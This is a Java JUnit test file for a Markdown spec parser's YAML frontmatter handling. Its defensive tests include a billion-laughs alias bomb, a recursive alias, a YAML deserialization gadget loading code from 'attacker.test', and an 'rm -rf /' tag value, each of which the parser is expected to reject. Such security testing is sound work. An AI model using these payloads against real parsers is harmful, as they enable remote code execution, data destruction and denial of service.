package chant.spec.format;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import chant.spec.content.Approval;
import chant.spec.content.FileStyle;
import chant.spec.content.ApprovalStatus;
import chant.spec.content.Problem;
import chant.spec.content.SpecContent;
import chant.spec.content.SpecStatus;
import chant.spec.content.SpecType;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class SpecMarkdownParseTest {

    private static String file(String... lines) {
        return String.join("\n", lines) + "\n";
    }

    private static List<Problem> problemsOf(String file) {
        return assertThrows(SpecFormatException.class, () -> SpecMarkdown.parse(file)).problems();
    }

    @Nested
    class FrontmatterAndBody {

        @Test
        void withoutFrontmatterTheSpecIsPendingCodeAndTheWholeFileIsTheBody() {
            String content = "\n# Title\n\ntext without a trailing newline";

            SpecContent spec = SpecMarkdown.parse(content);

            assertEquals(SpecType.CODE, spec.type());
            assertEquals(SpecStatus.PENDING, spec.status());
            assertEquals(content, spec.body());
            assertEquals(Map.of(), spec.extraFrontmatter());
        }

        @Test
        void theBodyIsKeptExactlyAfterTheClosingLine() {
            String body = "\n\n# Title\r\n\n---\ntext\t \n\nlast line without newline";

            SpecContent spec = SpecMarkdown.parse("---\ntype: task\n---\n" + body);

            assertEquals(SpecType.TASK, spec.type());
            assertEquals(body, spec.body());
        }

        @Test
        void crlfDelimitersAreTolerated() {
            SpecContent spec = SpecMarkdown.parse("---\r\ntype: research\r\nstatus: completed\r\n---\r\n# T\r\n");

            assertEquals(SpecType.RESEARCH, spec.type());
            assertEquals(SpecStatus.COMPLETED, spec.status());
            assertEquals("# T\r\n", spec.body());
        }

        @Test
        void aClosingLineAtTheEndOfTheFileGivesAnEmptyBody() {
            assertEquals("", SpecMarkdown.parse("---\nstatus: paused\n---").body());
        }

        @Test
        void onlyALineThatIsExactlyThreeDashesDelimits() {
            SpecContent notOpened = SpecMarkdown.parse("--- \ntype: task\n---\n");
            SpecContent notClosed = SpecMarkdown.parse(file("---", "prompt: |", "  ---", "  ----", "---", "body"));

            assertEquals(SpecContent.ofBody("--- \ntype: task\n---\n"), notOpened);
            assertEquals("---\n----\n", notClosed.prompt());
            assertEquals("body\n", notClosed.body());
        }

        @Test
        void anOpeningLineWithoutAClosingLineIsAProblemOnLineOne() {
            Problem problem = problemsOf("---\ntype: code\n# Title\n").get(0);

            assertEquals("frontmatter", problem.field());
            assertEquals(1, problem.line());
            assertTrue(problem.message().contains("no closing '---'"), problem.message());
        }

        @Test
        void emptyOrCommentOnlyFrontmatterHasNoFields() {
            for (String frontmatter : List.of("", "# nothing set yet\n", "\n  \n")) {
                SpecContent spec = SpecMarkdown.parse("---\n" + frontmatter + "---\n# T\n");

                assertEquals(SpecContent.ofBody("# T\n"), spec, frontmatter);
            }
        }

        @Test
        void frontmatterThatIsNotAMappingIsAProblem() {
            Problem list = problemsOf("---\n- type\n- code\n---\n# T\n").get(0);
            Problem text = problemsOf("---\njust text\n---\n# T\n").get(0);

            assertEquals("frontmatter", list.field());
            assertEquals(2, list.line());
            assertTrue(list.message().contains("found a list"), list.message());
            assertTrue(text.message().contains("found text"), text.message());
        }
    }

    @Nested
    class InterpretedFields {

        @Test
        void everyInterpretedFieldIsRead() {
            SpecContent spec = SpecMarkdown.parse(file("---",
                    "type: research",
                    "status: needs_attention",
                    "labels: [tides, ops]",
                    "depends_on: [2026-03-01-001-abc, 2026-03-01-002-def]",
                    "informed_by: [notes/a.md]",
                    "context: [docs/b.md]",
                    "target_files: [src/c.py]",
                    "origin: [data/d.csv]",
                    "tracks: [src/e.py]",
                    "prompt: research",
                    "model: sonnet",
                    "branch: chant/2026-03-01-003-ghi",
                    "commits: [9ce29be, f51948f]",
                    "completed_at: 2026-02-02T14:32:32Z",
                    "members: [2026-03-01-003-ghi.1]",
                    "approval:",
                    "  required: true",
                    "  status: approved",
                    "  by: mira",
                    "  at: 2026-02-01T14:45:12Z",
                    "---",
                    "# T"));

            SpecContent expected = SpecContent.builder()
                    .type(SpecType.RESEARCH).status(SpecStatus.NEEDS_ATTENTION)
                    .labels(List.of("tides", "ops"))
                    .dependsOn(List.of("2026-03-01-001-abc", "2026-03-01-002-def"))
                    .informedBy(List.of("notes/a.md")).context(List.of("docs/b.md"))
                    .targetFiles(List.of("src/c.py")).origin(List.of("data/d.csv")).tracks(List.of("src/e.py"))
                    .prompt("research").model("sonnet").branch("chant/2026-03-01-003-ghi")
                    .commits(List.of("9ce29be", "f51948f")).completedAt("2026-02-02T14:32:32Z")
                    .members(List.of("2026-03-01-003-ghi.1"))
                    .approval(new Approval(true, ApprovalStatus.APPROVED, "mira", "2026-02-01T14:45:12Z"))
                    .body("# T\n")
                    .build();
            assertEquals(expected, spec);
        }

        @Test
        void timestampsAndDatesStayText() {
            SpecContent spec = SpecMarkdown.parse(file("---", "completed_at: 2026-02-02T14:32:32Z",
                    "last_verified: 2026-02-02", "replayed_at: 2026-02-07T10:16:27.760650-07:00", "---"));

            assertEquals("2026-02-02T14:32:32Z", spec.completedAt());
            assertEquals("2026-02-02", spec.extraFrontmatter().get("last_verified"));
            assertEquals("2026-02-07T10:16:27.760650-07:00", spec.extraFrontmatter().get("replayed_at"));
        }

        @Test
        void scalarsOfInterpretedFieldsAreReadAsTheTextWritten() {
            SpecContent spec = SpecMarkdown.parse(file("---", "labels: [42, true, 1.50]",
                    "commits: [1234567, '3260890', 0123456]", "model: 4.0", "---"));

            assertEquals(List.of("42", "true", "1.50"), spec.labels());
            assertEquals(List.of("1234567", "3260890", "0123456"), spec.commits());
            assertEquals("4.0", spec.model());
        }

        @Test
        void aListFieldMayBeASingleText() {
            SpecContent spec = SpecMarkdown.parse(file("---", "depends_on: 2026-03-01-001-abc",
                    "members: 2026-03-01-001-abc.1", "labels: 7", "---"));

            assertEquals(List.of("2026-03-01-001-abc"), spec.dependsOn());
            assertEquals(List.of("2026-03-01-001-abc.1"), spec.members());
            assertEquals(List.of("7"), spec.labels());
        }

        @Test
        void nullAndEmptyValuesAreAbsent() {
            SpecContent spec = SpecMarkdown.parse(file("---", "type:", "status: ~", "labels: []", "prompt: null",
                    "approval:", "---"));

            // Only the spelling of the empty list is remembered, so that export writes it back.
            assertEquals(SpecContent.ofBody("").toBuilder()
                    .style(new FileStyle.Builder().emptyList("labels").build()).build(), spec);
        }

        @Test
        void anEmptyQuotedTextIsKept() {
            assertEquals("", SpecMarkdown.parse(file("---", "prompt: ''", "---")).prompt());
        }

        @Test
        void approvalDefaultsToNotRequiredAndPending() {
            SpecContent spec = SpecMarkdown.parse(file("---", "approval: {}", "---"));

            assertEquals(new Approval(false, ApprovalStatus.PENDING, null, null), spec.approval());
        }
    }

    @Nested
    class ExtraFields {

        @Test
        void areKeptInOrderWithTheirYamlValues() {
            SpecContent spec = SpecMarkdown.parse(file("---",
                    "pr: https://example.test/pull/17",
                    "type: code",
                    "retry_state: {attempts: 2, history: [{ok: false}, {ok: true}], last_error: null}",
                    "public: true",
                    "replay_count: 3",
                    "ratio: 0.5",
                    "superseded_by: ~",
                    "conflicting_files:",
                    "- src/a.rs",
                    "---"));

            Map<String, Object> retryState = new LinkedHashMap<>();
            retryState.put("attempts", 2);
            retryState.put("history", List.of(Map.of("ok", false), Map.of("ok", true)));
            retryState.put("last_error", null);
            Map<String, Object> expected = new LinkedHashMap<>();
            expected.put("pr", "https://example.test/pull/17");
            expected.put("retry_state", retryState);
            expected.put("public", true);
            expected.put("replay_count", 3);
            expected.put("ratio", 0.5);
            expected.put("superseded_by", null);
            expected.put("conflicting_files", List.of("src/a.rs"));
            assertEquals(expected, spec.extraFrontmatter());
            assertEquals(new ArrayList<>(expected.keySet()), new ArrayList<>(spec.extraFrontmatter().keySet()));
        }

        @Test
        void mergeKeysAreResolved() {
            SpecContent spec = SpecMarkdown.parse(file("---", "base: &base {a: 1}", "derived: {<<: *base, b: 2}",
                    "---"));

            assertEquals(Map.of("a", 1, "b", 2), spec.extraFrontmatter().get("derived"));
        }
    }

    @Nested
    class Problems {

        @Test
        void anUnknownTypeNamesTheFieldTheValueAndTheAllowedValues() {
            Problem problem = problemsOf(file("---", "status: pending", "type: implementation", "---")).get(0);

            assertEquals(Problem.error("type", "implementation",
                    "'implementation' is not a spec type (allowed: code, task, driver, group, documentation, research)")
                    .atLine(3), problem);
        }

        @Test
        void everyProblemOfTheFileIsReportedInLineOrder() {
            List<Problem> problems = problemsOf(file("---",
                    "approval: {required: maybe, status: later, note: x}",
                    "status: done",
                    "labels: {a: b}",
                    "type: feature",
                    "commits: [abc, [nested], ~]",
                    "prompt: [a, b]",
                    "---"));

            assertEquals(List.of("approval", "approval.required", "approval.status", "status", "labels", "type",
                    "commits", "commits", "prompt"), problems.stream().map(Problem::field).toList());
            assertEquals(List.of(2, 2, 2, 3, 4, 5, 6, 6, 7), problems.stream().map(Problem::line).toList());
            assertEquals("'later' is not an approval status (allowed: pending, approved, rejected)",
                    problems.get(2).message());
            assertEquals("unknown field 'note' (allowed: required, status, by, at)", problems.get(0).message());
            assertEquals("'done' is not a spec status (allowed: " + SpecStatus.allowedValues() + ")",
                    problems.get(3).message());
            assertEquals("expected text or a list of text, found a mapping", problems.get(4).message());
            assertEquals("list item 2 is a list: each item must be text", problems.get(6).message());
            assertEquals("list item 3 is empty: each item must be text", problems.get(7).message());
            assertEquals("expected a single value, found a list", problems.get(8).message());
        }

        @Test
        void theExceptionMessageJoinsTheProblems() {
            SpecFormatException e = assertThrows(SpecFormatException.class,
                    () -> SpecMarkdown.parse(file("---", "type: feature", "status: done", "---")));

            assertEquals(Problem.describeAll(e.problems()), e.getMessage());
            assertTrue(e.getMessage().startsWith("type: 'feature' is not a spec type"), e.getMessage());
        }

        @Test
        void malformedYamlGivesTheLineInTheFileAndTheParsersMessage() {
            Problem problem = problemsOf(file("---", "type: code", "prompt: standard: extended", "---")).get(0);

            assertEquals("frontmatter", problem.field());
            assertEquals(3, problem.line());
            assertEquals("invalid YAML: mapping values are not allowed here", problem.message());
        }

        @Test
        void anUnclosedFlowListPointsIntoTheFrontmatter() {
            Problem problem = problemsOf(file("---", "type: code", "labels: [a, b", "status: pending", "---"))
                    .get(0);

            assertEquals("frontmatter", problem.field());
            assertTrue(problem.line() >= 3 && problem.line() <= 5, "line " + problem.line());
        }

        @Test
        void aBillionLaughsIsRefusedQuickly() {
            StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
            for (int i = 1; i < 10; i++) {
                String previous = "*a" + (i - 1);
                yaml.append("a").append(i).append(": &a").append(i).append(" [")
                        .append(String.join(", ", Collections.nCopies(10, previous))).append("]\n");
            }
            String content = "---\n" + yaml + "---\n# T\n";

            Problem problem = problemsOf(content).get(0);

            assertEquals("frontmatter", problem.field());
            assertTrue(problem.message().contains("aliases"), problem.message());
        }

        @Test
        void aRecursiveStructureIsRefused() {
            Problem problem = problemsOf(file("---", "type: code", "loop: &loop [a, *loop]", "---")).get(0);

            assertEquals("frontmatter", problem.field());
            assertEquals(3, problem.line());
            assertTrue(problem.message().contains("recursive"), problem.message());
        }

        @Test
        void frontmatterOverTheSizeLimitIsRefused() {
            String big = "x".repeat(SafeYaml.MAX_CODE_POINTS);

            Problem problem = problemsOf("---\nnote: " + big + "\n---\n# T\n").get(0);

            assertEquals(Problem.error("frontmatter", null, "the frontmatter has 2097159 characters, over the limit"
                    + " of 2097152: move long values into the body").atLine(2), problem);
        }

        @Test
        void duplicateFieldsAreRefusedWithBothLines() {
            Problem problem = problemsOf(file("---", "status: pending", "type: code", "status: completed", "---"))
                    .get(0);

            assertEquals(Problem.error("frontmatter", "status",
                    "field 'status' appears twice (lines 2 and 4): keep one").atLine(4), problem);
        }

        @Test
        void duplicateKeysInsideAnExtraFieldAreRefused() {
            Problem problem = problemsOf(file("---", "type: code", "schedule:", "  cron: a", "  cron: b", "---"))
                    .get(0);

            assertEquals("schedule", problem.field());
            assertEquals(5, problem.line());
            assertTrue(problem.message().contains("duplicate key cron"), problem.message());
        }

        @Test
        void fieldNamesMustBeText() {
            Problem problem = problemsOf(file("---", "type: code", "42: answer", "---")).get(0);

            assertEquals("frontmatter", problem.field());
            assertEquals(3, problem.line());
            assertEquals("field names must be text, found '42' (int): quote the name or remove the field",
                    problem.message());
        }

        @Test
        void javaTypeTagsAreNotConstructed() {
            String attack = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                    + " [\"http://attacker.test/\"]]]]";

            Problem problem = problemsOf(file("---", "type: code", "payload: " + attack, "---")).get(0);

            assertEquals(Problem.error("frontmatter", null,
                    "invalid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager")
                    .atLine(3), problem);
        }

        @Test
        void unknownLocalTagsAreRefusedUnderTheirField() {
            Problem problem = problemsOf(file("---", "type: code", "payload: !run rm -rf /", "---")).get(0);

            assertEquals(Problem.error("payload", null, "invalid YAML: could not determine a constructor for the tag !run")
                    .atLine(3), problem);
        }

        @Test
        void problemsHaveNoFileUntilTheCallerAddsIt() {
            List<Problem> problems = problemsOf(file("---", "type: feature", "---"));

            assertNull(problems.get(0).file());
            assertEquals("specs/x.md:2: type: 'feature' is not a spec type (allowed: " + SpecType.allowedValues()
                    + ")", problems.get(0).inFile("specs/x.md").describe());
        }

        @Test
        void eachShapeProblemNamesItsField() {
            for (String field : Arrays.asList("labels", "depends_on", "informed_by", "context", "target_files",
                    "origin", "tracks", "commits", "members")) {
                Problem problem = problemsOf(file("---", field + ": {a: b}", "---")).get(0);

                assertEquals(field, problem.field());
            }
            for (String field : Arrays.asList("prompt", "model", "branch", "completed_at", "type", "status")) {
                Problem problem = problemsOf(file("---", field + ": [a]", "---")).get(0);

                assertEquals(field, problem.field());
            }
            assertEquals("approval", problemsOf(file("---", "approval: yes", "---")).get(0).field());
        }
    }

    @Nested
    class ChantsWalkthroughStatus {

        @Test
        void importReadsReadyAsPendingWithAWarningOnItsLine() {
            SpecMarkdown.Imported imported = SpecMarkdown.parseImported(file("---", "type: task", "status: ready",
                    "---", "# Triage"));

            assertEquals(SpecStatus.PENDING, imported.content().status());
            assertEquals(1, imported.warnings().size());
            Problem warning = imported.warnings().get(0);
            assertEquals(Problem.Severity.WARNING, warning.severity());
            assertEquals("status", warning.field());
            assertEquals("ready", warning.value());
            assertEquals(3, warning.line());
            assertTrue(warning.message().contains("imported as pending"), warning.message());
        }

        @Test
        void importStillRefusesEveryOtherUnknownStatus() {
            SpecFormatException e = assertThrows(SpecFormatException.class,
                    () -> SpecMarkdown.parseImported(file("---", "status: done", "---", "# T")));

            assertEquals("done", e.problems().get(0).value());
        }

        @Test
        void anImportWithoutReadyHasNoWarnings() {
            assertEquals(List.of(), SpecMarkdown.parseImported(file("---", "status: paused", "---", "# T")).warnings());
        }

        @Test
        void anEditedFileWithReadyIsRefusedSayingWhatToWrite() {
            List<Problem> problems = problemsOf(file("---", "status: ready", "---", "# T"));

            assertEquals(1, problems.size());
            assertEquals("status", problems.get(0).field());
            assertEquals("ready", problems.get(0).value());
            assertTrue(problems.get(0).message().contains("write pending"), problems.get(0).message());
        }
    }
}
